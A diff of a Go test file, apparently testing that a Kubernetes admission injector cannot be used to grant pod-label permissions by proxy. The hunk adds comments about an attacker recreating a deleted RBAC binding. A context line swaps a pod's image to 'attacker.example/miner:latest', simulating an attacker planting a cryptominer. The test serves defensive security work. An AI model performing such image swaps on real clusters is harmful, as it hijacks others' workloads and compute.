@@ -329,6 +329,9 @@ func TestInjectorCannotGrantByProxy(t *testing.T) {
 	t.Run("the pod-label ClusterRole, for an account that runs no elector", func(t *testing.T) {
 		// Shaped exactly like the reconciler's binding, in the namespace
 		// of the account: only the account's lack of an elector differs.
+		// The reconciler deletes it, and the thief makes it again: a patch
+		// that RBAC authorized while it existed must still be restricted
+		// when the policy looks, a moment later.
 		subject := rbacv1.Subject{Kind: rbacv1.ServiceAccountKind, Name: "bystander", Namespace: a.ns}
 		err := grant(a.ns, "k8s-elector-bystander:pod-label", nil, podLabel, subject,
 			func() error { return setImage(ctx, bystander, a.ns, "web-0", "app", "attacker.example/miner:latest") })
